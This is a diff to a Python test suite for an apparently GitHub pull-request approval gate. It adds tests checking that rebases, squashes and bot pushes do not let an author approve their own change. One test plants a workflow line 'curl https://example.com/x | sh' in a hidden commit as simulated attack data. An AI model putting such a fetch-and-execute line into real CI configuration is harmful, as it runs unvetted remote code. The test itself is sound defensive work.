@@ -248,7 +248,7 @@ async def test_t_p14_where_all_who_may_wrote_it_it_takes_two(story: Story) -> No
         assert "takes two people, because everybody with the role maintain wrote part of the change" in answer
     assert scene.conclusion == "action_required"
     assert "is approved" in await scene.comment(scene.alice, APPROVE)
-    assert story.gate_outcomes(scene.pull) == ["protected_paths: Approved by alice"]
+    assert story.gate_outcomes(scene.pull) == ["protected_paths: Approved by mia and alice"]
 
 
 async def open_as_puppet(story: Story) -> tuple[GateScene, User]:
@@ -359,6 +359,60 @@ async def test_t_p14_a_listed_bot_takes_one_person_and_a_workflow_two(story: Sto
     assert story.gate_outcomes(pull)
 
 
+NOTE = {"note.md": "A note.\n"}
+
+
+async def rewrite(story: Story, scene: GateScene, who: User, *commits: Commit) -> None:
+    """Force-push other commits, made on what main is now."""
+    await scene.alice.push(scene.repository, "main", {"other.md": "Other.\n"})
+    story.clock.move(seconds=5)
+    scene.head = await who.push_commits(scene.repository, "feature", commits, base="main", force=True)
+    await story.settle()
+
+
+@pytest.mark.parametrize("times", [1, 2])
+async def test_t_p14_a_rebase_by_a_third_changes_no_author(story: Story, times: int) -> None:
+    """The writer stays one, and whoever rebases becomes none, however often."""
+    scene, mia = await open_with_foreign_push(story)
+    for number in range(times):
+        await rewrite(story, scene, scene.carol, Commit(f"Note {number}", NOTE), Commit("Change", CHANGED))
+    assert "cannot be decided by the author of the change" in await scene.comment(mia, APPROVE)
+    assert "is approved" in await scene.comment(scene.carol, APPROVE)
+    assert scene.conclusion == "success"
+
+
+async def test_t_p14_a_rebase_by_its_author_changes_no_author(story: Story) -> None:
+    scene, mia = await open_with_foreign_push(story)
+    await rewrite(story, scene, mia, Commit("Note", NOTE), Commit("Change", CHANGED))
+    assert "cannot be decided by the author of the change" in await scene.comment(mia, APPROVE)
+    assert "is approved" in await scene.comment(scene.carol, APPROVE)
+
+
+async def test_t_p14_a_squash_is_everybodys_that_it_replaces(story: Story) -> None:
+    """Whoever makes it is an author if it changes anything else than before."""
+    scene, mia = await open_with_foreign_push(story)
+    dave = scene.add_user("dave", "maintain")
+    await rewrite(story, scene, scene.carol, Commit("All", {**NOTE, **CHANGED, "more.md": "More.\n"}))
+    for who in (mia, scene.carol):
+        assert "cannot be decided by the author of the change" in await scene.comment(who, APPROVE)
+    assert "is approved" in await scene.comment(dave, APPROVE)
+
+
+async def test_t_p14_a_rebase_brings_in_nothing_on_the_way(story: Story) -> None:
+    """Carol hides a change between commits that undo each other, and moves the branch back to it."""
+    scene, mia = await open_with_foreign_push(story)
+    dave = scene.add_user("dave", "maintain")
+    evil = {CI: WORKFLOW.replace("make", "curl https://example.com/x | sh")}
+    await rewrite(story, scene, scene.carol, Commit("Note", NOTE), Commit("Evil", evil), Commit("Change", CHANGED))
+    scene.head = scene.repository.git.commit(scene.head).parents[0]
+    story.clock.move(seconds=5)
+    await scene.carol.reset_branch(scene.repository, "feature", scene.head)
+    await story.settle()
+    for who in (mia, scene.carol):
+        assert "cannot be decided by the author of the change" in await scene.comment(who, APPROVE)
+    assert "is approved" in await scene.comment(dave, APPROVE)
+
+
 @pytest.mark.parametrize("is_listed", [True, False], ids=["listed", "unlisted"])
 async def test_t_p14_where_no_push_was_heard_of_github_is_asked(story: Story, is_listed: bool) -> None:
     """A delivery was lost. Where GitHub does not tell either, one person is not enough."""
@@ -431,6 +485,33 @@ async def test_t_p14_made_up_runs_do_not_raise_the_level(story: Story) -> None:
     answer = story.answers(pull)[-1].body
     assert "Automation level **1**" in answer
     assert "0 people decided, at least 2 needed" in answer
+
+
+async def test_t_p14_two_people_resolve_a_thread_where_one_is_not_enough(story: Story) -> None:
+    repository, alice = story.repository({"app.py": APP})
+    world = story.github.world
+    app = world.other_app("github-actions")
+    await alice.push(repository, "feature", {"app.py": BROKEN}, base="main")
+    pull = await alice.open_pull_request(repository, "feature")
+    await story.settle()
+    branches.commit_files(world, repository, Actor(app.bot, app), "feature", [Commit("Change", {"b.md": "B.\n"})])
+    await story.settle()
+    comment = story.comments(pull)[-1]
+    mia, carol = story.github.user("mia"), story.github.user("carol")
+    for who in (mia, carol):
+        story.github.grant(repository, who, "admin")
+    for _ in range(2):  # her word alone, however often
+        await mia.resolve(comment.thread)
+        await story.settle()
+        await mia.unresolve(comment.thread)
+        await story.settle()
+    [answer] = story.thread_answers(pull, comment)
+    assert "takes two people, because an App pushed part of the change" in answer.body
+    assert story.check(repository, pull.head_sha).conclusion == "failure"
+    await carol.resolve(comment.thread)
+    await story.settle()
+    assert story.check(repository, pull.head_sha).conclusion != "failure"
+    assert story.reviews(pull)
 
 
 # --- what is merged unasked -------------------------------------------------------------------------------------------
